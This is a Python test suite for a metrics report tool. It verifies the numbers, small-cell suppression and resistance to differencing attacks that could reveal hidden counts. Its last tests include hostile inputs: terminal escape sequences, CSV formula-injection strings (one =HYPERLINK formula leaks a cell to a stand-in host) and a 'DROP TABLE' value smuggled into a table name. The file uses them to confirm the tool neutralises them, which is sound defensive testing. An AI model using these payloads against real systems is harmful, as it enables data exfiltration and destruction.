"""`send_metrics report` on the embedded store's relations (DuckDB): every number checked against
a computation from the raw events in plain Python; small cells suppressed, and (hypothesis)
no suppressed cell of any published report can be worked out from the published numbers."""

from __future__ import annotations

import csv
import io
import random
import subprocess
import tempfile
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from send_metrics.local.stats import percentile
from send_metrics.operator import report, report_text
from send_metrics.operator.report_sql import DIMENSIONS
from tests.helpers import SEND_METRICS
from tests.team_events import event, in_duckdb, team

NOW = datetime(2026, 12, 4, 12, 0, tzinfo=UTC)  # a Friday: week 2026-W49 has begun


def _build(events: list[dict[str, Any]], folder: Path, **rules: Any) -> report.Report:
    opts = report.options(NOW, weeks=rules.pop("weeks", 6), **rules)
    return report.build(report.duckdb_reader(in_duckdb(events, folder)), opts)


def _monday(text: str) -> str:
    day = datetime.fromisoformat(text).astimezone(UTC).date()
    return (day - timedelta(days=day.weekday())).isoformat()


def _failed(e: dict[str, Any]) -> int:
    return int(e["exit_code"] != 0)


def test_every_number_matches_the_raw_events(tmp_path: Path) -> None:
    """With k = 1 nothing is hidden: each cell is what Python computes from the events."""
    events = team(seed=3, developers=30, runs=2500, weeks=6, now=NOW)
    doc = report_text.as_dict(_build(events, tmp_path, min_developers=1))
    since = report.options(NOW, weeks=6).since
    inside = [e for e in events if datetime.fromisoformat(e["start_time"]) >= since]
    assert doc["total"]["runs"] == len(inside) > 1500
    assert doc["total"]["developers"] == len({e["anonymous_id"] for e in inside})
    assert doc["total"]["failures"] == sum(map(_failed, inside))

    cells: dict[tuple[str, str], list[dict[str, Any]]] = defaultdict(list)
    for e in inside:
        cells[(_monday(e["start_time"]), e["command"])].append(e)
    by_key = {}
    for c in doc["commands"]:
        year, week = c["week"].split("-W")
        monday = datetime.fromisocalendar(int(year), int(week), 1).date().isoformat()
        by_key[(monday, c["command"])] = c
    assert set(by_key) == set(cells)
    for key, runs in cells.items():
        durations = sorted(e["duration_ms"] for e in runs)
        cell = by_key[key]
        assert cell["runs"] == len(runs)
        assert cell["developers"] == len({e["anonymous_id"] for e in runs})
        assert cell["failures"] == sum(map(_failed, runs))
        assert cell["p50_ms"] == round(percentile(durations, 0.5), 3)
        assert cell["p90_ms"] == round(percentile(durations, 0.9), 3)

    weeks: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for e in inside:
        weeks[_monday(e["start_time"])].append(e)
    assert [w["monday"] for w in doc["weeks"]] == sorted(weeks)
    for w in doc["weeks"]:
        these = weeks[w["monday"]]
        assert (w["runs"], w["failures"]) == (len(these), sum(map(_failed, these)))
        assert w["developers"] == len({e["anonymous_id"] for e in these})

    targets: dict[str, list[tuple[dict[str, Any], dict[str, Any]]]] = defaultdict(list)
    for e in inside:
        for t in e["make_targets"] or []:
            targets[t["name"]].append((e, t))
    assert {t["name"] for t in doc["targets"]} == set(targets)
    for t in doc["targets"]:
        seen = targets[t["name"]]
        durations = sorted(x["duration_ms"] for _, x in seen)
        assert set(t) == {"name", "p50_ms", "p90_ms", "critical_share", "suppressed"}  # no count
        share = sum(x["critical"] for _, x in seen) / len(seen)
        assert t["critical_share"] == round(round(share * 10) / 10, 2)
        assert t["p50_ms"] == round(percentile(durations, 0.5), 3)
        assert t["p90_ms"] == round(percentile(durations, 0.9), 3)

    for dimension in DIMENSIONS:
        expected: dict[str, set[str]] = defaultdict(set)
        for e in inside:
            value = ("ci" if e["ci"] else "local") if dimension == "ci" else e[dimension]
            expected[value].add(e["anonymous_id"])
        got = {s["value"]: s["developers"] for s in doc["breakdowns"][dimension]}
        assert got == {v: len(d) for v, d in expected.items()}


def test_commands_nobody_ran_lately_are_listed(tmp_path: Path) -> None:
    events = team(seed=4, developers=12, runs=600, weeks=6, now=NOW)
    rng = random.Random(9)
    people = {e["anonymous_id"]: e for e in events}
    old = NOW - timedelta(weeks=5)
    for i, person in enumerate(list(people.values())[:7]):
        developer = {
            "id": person["anonymous_id"],
            "os": (person["os"], person["os_release"]),
            "arch": person["arch"],
            "ci": person["ci"],
            "tool_version": person["tool_version"],
            "app_version": person["app_version"],
        }
        start = old + timedelta(hours=i)
        events.append(event(rng, developer, "legacy.deploy", start, 900.0, 0, False))
        if i < 2:
            events.append(event(rng, developer, "rare.thing", start, 100.0, 0, False))
    doc = report_text.as_dict(_build(events, tmp_path, idle_weeks=3))
    # Names and the last week only: a count here would sit beside the command cells it sums.
    assert [set(i) for i in doc["idle"]] == [{"command", "last_week"}] * 2
    assert [i["command"] for i in doc["idle"]] == ["legacy.deploy", "rare.thing"]
    assert doc["idle"][0]["last_week"] == report_text.iso_week(report.monday(old).date())


def _regression_events(p50_before: float, p50_after: float, runs: int) -> list[dict[str, Any]]:
    rng = random.Random(5)
    people = [
        {"id": f"00000000-0000-4000-8000-{i:012d}", "os": ("linux", "6"), "arch": "amd64",
         "ci": False, "tool_version": "0.1.0", "app_version": ""}
        for i in range(6)
    ]  # fmt: skip
    out = []
    for week, p50 in ((2, p50_before), (1, p50_after)):
        start = report.monday(NOW) - timedelta(weeks=week) + timedelta(days=1)
        for i in range(runs):
            duration = p50 * (0.5 + i / (runs - 1))  # the middle value is p50 (runs odd)
            out.append(
                event(rng, people[i % 6], "test", start + timedelta(minutes=i), duration, 0, False)
            )
    return out


@pytest.mark.parametrize(
    ("after", "runs", "flagged"),
    [(1300.0, 11, True), (1150.0, 11, False), (1300.0, 9, False), (800.0, 11, False)],
)
def test_a_regression_is_flagged_past_the_threshold_on_enough_runs(
    tmp_path: Path, after: float, runs: int, flagged: bool
) -> None:
    made = _build(_regression_events(1000.0, after, runs), tmp_path, min_developers=5)
    last = [c for c in made.commands if c.command == "test"][-1]
    assert last.p50_ms == pytest.approx(after)
    assert last.change == pytest.approx(after / 1000.0 - 1)
    assert last.regression is flagged
    strict = _build(_regression_events(1000.0, 1300.0, 11), tmp_path / "b", regression=0.35)
    assert not [c for c in strict.commands if c.regression]


def test_small_cells_are_suppressed_in_every_format(tmp_path: Path) -> None:
    events = team(seed=7, developers=14, runs=900, weeks=6, now=NOW)
    made = _build(events, tmp_path)
    doc = report_text.as_dict(made)
    hidden = [c for c in doc["commands"] if c["suppressed"]]
    assert hidden, "the power law leaves some small cells"
    for c in doc["commands"]:
        if c["suppressed"]:
            assert {c[k] for k in ("developers", "runs", "failures", "p50_ms", "p90_ms")} == {None}
        else:
            assert c["developers"] >= 5
    rows = list(csv.DictReader(io.StringIO(report_text.as_csv(made))))
    csv_hidden = [r for r in rows if r["section"] == "command" and r["runs"] == "suppressed"]
    assert len(csv_hidden) == len(hidden)
    assert all(r["p50_ms"] == "suppressed" for r in csv_hidden)
    lines = report_text.text(made)
    assert any("supp" in line for line in lines)
    assert made.suppressed == sum(
        1 for section in ("weeks", "commands", "targets") for c in doc[section] if c["suppressed"]
    ) + sum(s["suppressed"] for v in doc["breakdowns"].values() for s in v)


def test_a_team_below_the_threshold_publishes_nothing(tmp_path: Path) -> None:
    events = team(seed=8, developers=4, runs=300, weeks=3, now=NOW)
    made = _build(events, tmp_path)
    doc = report_text.as_dict(made)
    assert doc["total"]["suppressed"]
    every = [*doc["weeks"], *doc["commands"], *doc["targets"]]
    every += [s for v in doc["breakdowns"].values() for s in v]
    assert every and all(c["suppressed"] for c in every)
    assert "every number is suppressed" in " ".join(report_text.text(made))


# ---- the property: nothing suppressed can be worked out by subtraction ----


def _determined(equations: list[dict[str, int]], unknowns: list[str]) -> set[str]:
    """The unknowns fixed by linear equations (coefficients per unknown; constants left out):
    e_v is in the row space, found by exact elimination with Fractions."""

    def rank(rows: list[list[Fraction]]) -> int:
        rows = [r[:] for r in rows]
        found = 0
        for col in range(len(unknowns)):
            pivot = next((i for i in range(found, len(rows)) if rows[i][col] != 0), None)
            if pivot is None:
                continue
            rows[found], rows[pivot] = rows[pivot], rows[found]
            for i in range(len(rows)):
                if i != found and rows[i][col] != 0:
                    factor = rows[i][col] / rows[found][col]
                    rows[i] = [a - factor * b for a, b in zip(rows[i], rows[found], strict=True)]
            found += 1
        return found

    matrix = [[Fraction(eq.get(u, 0)) for u in unknowns] for eq in equations]
    matrix = [r for r in matrix if any(r)]
    base = rank(matrix)
    fixed = set()
    for i, u in enumerate(unknowns):
        unit = [Fraction(int(i == j)) for j in range(len(unknowns))]
        if rank([*matrix, unit]) == base:
            fixed.add(u)
    return fixed


def _published(docs: list[dict[str, Any]]) -> dict[str, int]:
    """Every run count any of the reports shows, by cell (a week's cells are the same cells in
    every window: windows are whole weeks)."""
    shown: dict[str, int] = {}
    for doc in docs:
        cells = [(f"total {doc['since']}", doc["total"])]
        cells += [(f"week {w['week']}", w) for w in doc["weeks"]]
        cells += [(f"{c['week']} {c['command']}", c) for c in doc["commands"]]
        for name, cell in cells:
            if not cell["suppressed"]:
                assert shown.setdefault(name, cell["runs"]) == cell["runs"], name
    return shown


def _sum_groups(
    doc: dict[str, Any],
) -> list[tuple[str, dict[str, Any], list[tuple[str, dict[str, Any]]]]]:
    """Every published sum of runs: (total's name, total, [(part's name, part)])."""
    weeks = [(f"week {w['week']}", w) for w in doc["weeks"]]
    groups = [(f"total {doc['since']}", doc["total"], weeks)]
    for w in doc["weeks"]:
        parts = [
            (f"{c['week']} {c['command']}", c) for c in doc["commands"] if c["week"] == w["week"]
        ]
        groups.append((f"week {w['week']}", w, parts))
    return groups


def _window(e: dict[str, Any], doc: dict[str, Any]) -> bool:
    moment = datetime.fromisoformat(e["start_time"])
    return datetime.fromisoformat(doc["since"]) <= moment < datetime.fromisoformat(doc["until"])


def _value(e: dict[str, Any], dimension: str) -> str:
    return ("ci" if e["ci"] else "local") if dimension == "ci" else str(e[dimension] or "")


def _check_unrecoverable(docs: list[dict[str, Any]], events: list[dict[str, Any]], k: int) -> None:
    """No run count hidden in every one of `docs` (reports of the same events over different
    windows) is determined by all they publish together; what each publishes beside the sums
    (targets, idle commands, breakdowns) carries no count that could enter a sum."""
    shown = _published(docs)
    equations = []
    unknowns: dict[str, None] = {}
    for doc in docs:
        for name, _total, parts in _sum_groups(doc):
            equation: dict[str, int] = {}
            if name not in shown:
                equation[name] = 1
                unknowns[name] = None
            for part_name, _ in parts:
                if part_name not in shown:
                    equation[part_name] = equation.get(part_name, 0) - 1
                    unknowns[part_name] = None
            equations.append(equation)
            if parts and name in shown and all(n in shown for n, _ in parts):
                assert shown[name] == sum(shown[n] for n, _ in parts)
    fixed = _determined(equations, list(unknowns))
    assert not fixed, f"recoverable by subtraction: {sorted(fixed)}"

    developers: dict[str, set[str]] = defaultdict(set)
    for e in events:
        monday = datetime.fromisoformat(e["start_time"]).astimezone(UTC)
        week = report_text.iso_week(report.monday(monday).date())
        developers[f"week {week}"].add(e["anonymous_id"])
        developers[f"{week} {e['command']}"].add(e["anonymous_id"])
    for doc in docs:
        # A period total only ever sums shown weeks.
        assert doc["total"]["suppressed"] or not any(w["suppressed"] for w in doc["weeks"])
        for _, total, parts in _sum_groups(doc):
            hidden = [n for n, p in parts if p["suppressed"]]
            if not total["suppressed"] and hidden:
                assert len(hidden) >= 2
                assert len(set().union(*(developers[n] for n in hidden))) >= k
        for section in ("commands", "weeks"):
            for cell in doc[section]:
                assert cell["suppressed"] or cell["developers"] >= k
        inside = [e for e in events if _window(e, doc)]
        assert all(set(i) == {"command", "last_week"} for i in doc["idle"])
        for t in doc["targets"]:
            assert set(t) == {"name", "p50_ms", "p90_ms", "critical_share", "suppressed"}
            ran = {e["anonymous_id"] for e in inside for x in e["make_targets"] or []
                   if x["name"] == t["name"]}  # fmt: skip
            assert t["suppressed"] or len(ran) >= k
        for dimension, values in doc["breakdowns"].items():
            assert all(set(v) == {"value", "developers", "suppressed"} for v in values)
            named = {v["value"] for v in values if not v["suppressed"]}
            assert [v["value"] for v in values if v["suppressed"]] in ([], [None])
            by_value: dict[str, set[str]] = defaultdict(set)
            for e in inside:
                by_value[_value(e, dimension)].add(e["anonymous_id"])
            assert all(len(by_value[v]) >= k for v in named)
            rest = [by_value[v] for v in by_value if v not in named]
            if rest and not doc["total"]["suppressed"]:
                assert len(rest) >= 2 and len(set().union(*rest)) >= k


@st.composite
def small_teams(draw: st.DrawFn) -> tuple[list[dict[str, Any]], int]:
    people = draw(st.integers(1, 12))
    commands = draw(st.integers(1, 5))
    k = draw(st.integers(2, 6))
    runs = draw(
        st.lists(
            st.tuples(
                st.integers(0, people - 1),
                st.integers(0, commands - 1),
                st.integers(0, 3),
                st.integers(0, 2),
                st.booleans(),
            ),
            min_size=1,
            max_size=70,
        )
    )
    rng = random.Random(draw(st.integers(0, 2**32)))
    developers = [
        {"id": f"00000000-0000-4000-8000-{i:012d}", "os": (["linux", "darwin"][i % 2], "1"),
         "arch": ["amd64", "arm64"][i % 3 == 0], "ci": i % 4 == 0, "tool_version": "0.1.0",
         "app_version": ["", "1", "2"][i % 3]}
        for i in range(people)
    ]  # fmt: skip
    start = report.monday(NOW) - timedelta(weeks=3) + timedelta(hours=10)
    events = [
        event(rng, developers[p], f"cmd{c}", start + timedelta(weeks=w, minutes=i),
              100.0 * (i + 1), [0, 1, None][code], traced, ["t0", "t1", "t2"])
        for i, (p, c, w, code, traced) in enumerate(runs)
    ]  # fmt: skip
    return events, k


# A window: `--weeks N`, or `--since` some hour from a day before the events' first week.
WINDOWS = st.one_of(
    st.integers(1, 5).map(lambda n: {"weeks": n}),
    st.integers(0, 30 * 24).map(
        lambda h: {"since": report.monday(NOW) - timedelta(weeks=3, days=1) + timedelta(hours=h)}
    ),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(small_teams(), st.lists(WINDOWS, min_size=1, max_size=4))
def test_no_suppressed_cell_can_be_recovered_by_subtraction(
    team_and_k: tuple[list[dict[str, Any]], int], windows: list[dict[str, Any]]
) -> None:
    """Within one report and across several reports of the same events (other --weeks, other
    --since), no hidden number is determined by all they publish."""
    events, k = team_and_k
    with tempfile.TemporaryDirectory() as folder:
        read = report.duckdb_reader(in_duckdb(events, Path(folder)))
        docs = [
            report_text.as_dict(
                report.build(read, report.options(NOW, **{"weeks": 4, **w}, min_developers=k))
            )
            for w in [{}, *windows]
        ]
    _check_unrecoverable(docs, events, k)


def _doc(since: str, total: int | None, weeks: list[tuple[str, int | None]]) -> dict[str, Any]:
    cell = {"suppressed": total is None, "runs": total}
    return {
        "since": since, "until": "2026-12-31T00:00:00+00:00", "total": cell, "commands": [],
        "weeks": [{"week": w, "runs": r, "suppressed": r is None} for w, r in weeks],
        "targets": [], "idle": [], "breakdowns": {},
    }  # fmt: skip


def test_the_check_sees_a_recoverable_cell() -> None:
    """The property can fail: one report hiding exactly one week of a shown total, or two
    reports whose windows differ by a hidden week (the 12-week total less a 2-week report's
    weeks), and it says so."""
    one = _doc("2026-01-05T00:00:00+00:00", 10, [("2026-W01", None), ("2026-W02", 6)])
    with pytest.raises(AssertionError, match="recoverable by subtraction"):
        _check_unrecoverable([one], [], 5)
    wide = _doc("2026-01-05T00:00:00+00:00", 15,
                [("2026-W01", None), ("2026-W02", None), ("2026-W03", 5)])  # fmt: skip
    narrow = _doc("2026-01-12T00:00:00+00:00", 8, [("2026-W02", 3), ("2026-W03", 5)])
    with pytest.raises(AssertionError, match=r"recoverable by subtraction: \['week 2026-W01'\]"):
        _check_unrecoverable([wide, narrow], [], 5)


# ---- the command line ----


def test_the_command_line_refuses_bad_usage_in_one_line(tmp_path: Path) -> None:
    def sm(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([SEND_METRICS, "report", *args], capture_output=True, text=True)

    both = sm("--data", str(tmp_path), "--clickhouse", "http://127.0.0.1:1")
    assert both.returncode == 2 and "give one of --data DIR and --clickhouse URL" in both.stderr
    missing = sm("--data", str(tmp_path / "nope"))
    assert missing.returncode == 3
    assert (
        missing.stderr
        == f"send_metrics: --data {tmp_path / 'nope'}: no such folder (the collector's --data)\n"
    )
    bad = sm("--clickhouse", "ftp://example.invalid/x")
    assert bad.returncode == 3 and bad.stderr.count("\n") == 1 and "Traceback" not in bad.stderr
    since = sm("--data", str(tmp_path), "--since", "yesterday")
    assert since.returncode == 2 and "is not a period" in since.stderr
    table = sm("--clickhouse", "http://127.0.0.1:1/db", "--table", "x; DROP TABLE y")
    assert table.returncode == 3 and "is not a table name" in table.stderr


def test_the_report_of_a_real_collector_matches_the_events_sent(tmp_path: Path) -> None:
    """The collector as a real process on loopback receives the team's events in Segment
    batches (our segment sink's messages); `report --data --json`, a real process reading the
    store while the collector runs, gives the report the events make in memory."""
    import json
    import socket
    import time
    import urllib.request

    from send_metrics.delivery.sinks import segment_message

    now = datetime.now(UTC)
    events = team(seed=31, developers=20, runs=1200, weeks=6, now=now)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    data = tmp_path / "collected"
    log = (tmp_path / "collect.log").open("w+")
    collector = subprocess.Popen(
        [SEND_METRICS, "collect", "--host", "127.0.0.1", "--port", str(port), "--data", str(data)],
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        deadline = time.monotonic() + 60
        while "listening" not in (tmp_path / "collect.log").read_text():
            assert collector.poll() is None and time.monotonic() < deadline, (
                tmp_path / "collect.log"
            ).read_text()
            time.sleep(0.1)
        for i in range(0, len(events), 100):
            body = json.dumps({"batch": [segment_message(e) for e in events[i : i + 100]]})
            request = urllib.request.Request(
                f"http://127.0.0.1:{port}/v1/batch",
                body.encode(),
                {"Content-Type": "application/json"},
            )
            with urllib.request.urlopen(request, timeout=30) as answer:  # noqa: S310 - loopback
                assert answer.status == 200
        made = subprocess.run(
            [SEND_METRICS, "report", "--data", str(data), "--json", "--weeks", "6"],
            capture_output=True,
            text=True,
            timeout=120,
        )
    finally:
        collector.terminate()
        collector.wait(timeout=30)
        log.close()
    assert made.returncode == 0, made.stderr
    got = json.loads(made.stdout)
    expected = report_text.as_dict(
        report.build(
            report.duckdb_reader(in_duckdb(events, tmp_path / "memory")),
            report.options(datetime.fromisoformat(got["until"]), weeks=6),
        )
    )
    assert got["total"]["runs"] == expected["total"]["runs"] > 1000
    assert got == expected


# ---- the adversarial round's reproductions (one report, two windows, hostile names) ----


def _person(i: int, os: str = "linux") -> dict[str, Any]:
    return {"id": f"00000000-0000-4000-8000-{i:012d}", "os": (os, "1"), "arch": "amd64",
            "ci": False, "tool_version": "0.1.0", "app_version": "1"}  # fmt: skip


def _at(day: str, hour: int = 9) -> datetime:
    return datetime.fromisoformat(f"{day}T{hour:02d}:00:00+00:00")


def test_one_report_pins_no_cell_through_the_idle_list_or_the_targets(tmp_path: Path) -> None:
    """Attack r10/r11: in W43 six developers run dev.a, five run dev.c (traced: target c.step,
    run only inside dev.c), one runs dev.x; dev.x is hidden, dev.c hidden beside it. The idle
    list once gave dev.c's 5 developers and the targets table c.step's 10 runs, each pinning
    dev.x to 1 run. Now neither says how many."""
    rng = random.Random(4)
    people = [_person(i) for i in range(6)]
    events = []
    for i, who in enumerate(people):
        events += [event(rng, who, "dev.a", _at(f"2026-10-2{j}"), 1000.0, 0, False)
                   for j in range(4)]  # fmt: skip
        events.append(event(rng, who, "dev.a", _at("2026-12-01"), 1000.0, 0, False))
        if i < 5:
            for day in ("2026-10-22", "2026-12-02"):
                events.append(event(rng, who, "dev.c", _at(day, 10), 1000.0, 0, True, ["c.step"]))
        else:
            events.append(event(rng, who, "dev.x", _at("2026-10-22", 11), 1000.0, 1, False))
    doc = report_text.as_dict(_build(events, tmp_path, weeks=12))
    hidden = {(c["week"], c["command"]) for c in doc["commands"] if c["suppressed"]}
    assert ("2026-W43", "dev.x") in hidden and len(hidden) >= 2
    assert [i["command"] for i in doc["idle"]] == ["dev.x"]
    assert all(set(i) == {"command", "last_week"} for i in doc["idle"])
    (step,) = doc["targets"]
    assert step["name"] == "c.step" and not step["suppressed"]
    assert {"runs", "developers", "failures", "critical"}.isdisjoint(step)
    assert step["critical_share"] in (0.0, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 1.0)
    _check_unrecoverable([doc], events, 5)


def _team_and_one(command: str, start: datetime, tmp_path: Path) -> Any:
    """Five developers run dev.test daily for two weeks; a sixth runs `command` once."""
    rng = random.Random(3)
    events = [
        event(rng, _person(i), "dev.test", _at(day), 1000.0, 0, False)
        for i in range(5)
        for day in ("2026-11-23", "2026-11-24", "2026-11-25", "2026-11-30", "2026-12-01",
                    "2026-12-02", "2026-12-03")
    ]  # fmt: skip
    events.append(event(rng, _person(5, "windows"), command, start, 5000.0, 3, False))
    return events, report.duckdb_reader(in_duckdb(events, tmp_path))


def test_two_reports_a_few_seconds_apart_give_back_nothing(tmp_path: Path) -> None:
    """Attack r1: `--since` one second before and one after a lone run; the two reports differed
    by exactly that run. `--since` now starts at its ISO week's Monday: the reports are equal."""
    events, read = _team_and_one("dev.secret", _at("2026-12-02", 15), tmp_path)
    docs = [
        report_text.as_dict(report.build(read, report.options(NOW, since=moment)))
        for moment in (_at("2026-12-02", 15) - timedelta(seconds=1),
                       _at("2026-12-02", 15) + timedelta(seconds=1))
    ]  # fmt: skip
    assert docs[0]["since"] == "2026-11-30T00:00:00+00:00"
    assert docs[0] == docs[1]
    _check_unrecoverable(docs, events, 5)


def test_two_reports_of_other_weeks_give_back_no_hidden_week(tmp_path: Path) -> None:
    """Attack r1b: a week of one developer's single run, hidden in `--weeks 12`, came back as the
    12-week total less the weeks `--weeks 2` shows. Now a total only sums shown weeks."""
    events, read = _team_and_one("dev.rare", _at("2026-10-21", 8), tmp_path)
    docs = [
        report_text.as_dict(report.build(read, report.options(NOW, weeks=weeks)))
        for weeks in (12, 2)
    ]
    _check_unrecoverable(docs, events, 5)
    assert [w["week"] for w in docs[0]["weeks"] if w["suppressed"]] == ["2026-W43"]
    assert docs[0]["total"]["suppressed"] and not docs[1]["total"]["suppressed"]


def test_a_hidden_breakdown_value_is_not_named(tmp_path: Path) -> None:
    """A team of six where one developer uses Windows: the OS breakdown shows linux and one
    nameless hidden row, so the report does not tell that someone uses Windows."""
    _, read = _team_and_one("dev.test", _at("2026-12-02", 15), tmp_path)
    made = report.build(read, report.options(NOW, weeks=2))
    doc = report_text.as_dict(made)
    assert doc["breakdowns"]["os"] == [
        {"value": None, "developers": None, "suppressed": True},
    ]  # linux is hidden beside it: its 5 out of 6 would give windows's 1 back
    from send_metrics.operator import report_html

    outputs = [report_text.as_json(made), report_text.as_csv(made), *report_text.text(made)]
    assert not [o for o in [*outputs, report_html.page(made)] if "windows" in o]


HOSTILE = [
    "evil\x1b]0;PWNED\x07\x1b[2J\x1b[31mRED\x9b",
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def test_hostile_names_reach_no_terminal_and_no_spreadsheet_formula(tmp_path: Path) -> None:
    """Attack r12: command, OS and version names from any sender with the write key carried
    terminal escapes (OSC title, BEL, clear screen) raw to the operator's terminal and
    formulas unquoted into the CSV."""
    rng = random.Random(4)
    events = [
        event(rng, dict(_person(i), os=(name, "1"), app_version=name, tool_version=name), name,
              _at("2026-12-01"), 1000.0, 0, True, [name])
        for i in range(6)
        for name in HOSTILE
    ]  # fmt: skip
    made = _build(events, tmp_path, weeks=1)
    doc = report_text.as_dict(made)
    assert sorted(c["command"] for c in doc["commands"]) == sorted(HOSTILE)  # JSON: exact
    assert not [c for c in doc["commands"] if c["suppressed"]]
    screen = "\n".join(report_text.text(made, width=200))
    control = [ch for ch in screen if ch != "\n" and (ord(ch) < 32 or 127 <= ord(ch) < 160)]
    assert not control
    assert "evil\\x1b]0;PWNED\\x07\\x1b[2J\\x1b[31mRED\\x9b" in screen
    from send_metrics.operator import report_html

    page = report_html.page(made)
    assert not [ch for ch in page if ch not in "\n\t" and (ord(ch) < 32 or 127 <= ord(ch) < 160)]
    assert "evil\\x1b]0;PWNED\\x07" in page
    rows = list(csv.reader(io.StringIO(report_text.as_csv(made), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [
        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ]
    assert '\'=HYPERLINK("http://x.test/?"&A1,"click")' in cells
    assert "'\tx" in cells and "'-2" in cells
